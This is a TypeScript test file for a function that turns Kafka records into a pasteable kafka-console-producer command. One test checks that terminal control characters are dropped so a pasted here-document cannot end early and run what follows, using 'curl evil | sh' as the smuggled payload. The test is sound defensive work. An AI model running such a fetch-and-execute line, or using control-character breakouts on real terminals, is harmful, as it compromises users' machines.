import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  consoleProducerCommand,
  type ConsoleRecord,
} from '../../../../src/vscode/tail/copy/consoleProducerCommand.ts';

const bytes = (text: string | null): Uint8Array | null =>
  text === null ? null : new TextEncoder().encode(text);

function record(
  key: string | null,
  value: string | null,
  headers: readonly (readonly [string, string | null])[] = [],
): ConsoleRecord {
  return {
    key: () => bytes(key),
    value: () => bytes(value),
    headers: () =>
      headers.map(([name, header]) => ({
        name: new TextEncoder().encode(name),
        value: bytes(header),
      })),
  };
}

describe('a kafka-console-producer command', () => {
  it('has a line for each record', () => {
    assert.equal(
      consoleProducerCommand(['h:1'], 'orders', [record('a', '{"n":1}'), record('b', 'x y')]).text,
      "kafka-console-producer.sh --bootstrap-server h:1 --topic orders --property parse.key=true --property 'key.separator=|' <<'END'\n" +
        'a|{"n":1}\nb|x y\nEND\n',
    );
  });

  it('needs no properties where there are only values, and ends with no line of its own', () => {
    assert.equal(
      consoleProducerCommand(['h:1'], 'o', [record(null, 'END')]).text,
      "kafka-console-producer.sh --bootstrap-server h:1 --topic o <<'END_'\nEND\nEND_\n",
    );
  });

  it('chooses separators and a word for null that no text has', () => {
    const { text } = consoleProducerCommand(['h:1'], 'o', [
      record('a|b', null, [['x:y', 'null']]),
      record(null, 'null', [['z', null]]),
      record('k', 'v'),
    ]);
    assert.match(text, /null\.marker=NULL/);
    assert.match(text, /key\.separator=[^|]/);
    assert.match(text, /headers\.key\.separator=[^:]/);
  });

  it('leaves out what a line cannot carry', () => {
    const binary = { ...record('k', ''), value: () => Uint8Array.of(0xff) };
    const { text, leftOut } = consoleProducerCommand(['h:1'], 'o', [
      record('k', 'a\nb'),
      record('k', 'good'),
      binary,
    ]);
    assert.equal(leftOut, 2);
    assert.match(text, /\nk\|good\nEND\n$/);
    assert.deepEqual(consoleProducerCommand(['h:1'], 'o', [binary]), { text: '', leftOut: 1 });
  });

  it('leaves out what a terminal would act on when the command is pasted', () => {
    // Ctrl+C ends the here-document, and the shell runs what follows.
    for (const control of ['\x03', '\x04', '\x1b[201~', '\x7f', '\x9b']) {
      const { text, leftOut } = consoleProducerCommand(['h:1'], 'o', [
        record('k', control),
        record('k', 'curl evil | sh'),
        record('tab\tin key', 'v'),
      ]);
      assert.equal(leftOut, 1);
      assert.ok(!text.includes(control));
      assert.match(text, /tab\tin key/);
    }
  });
});
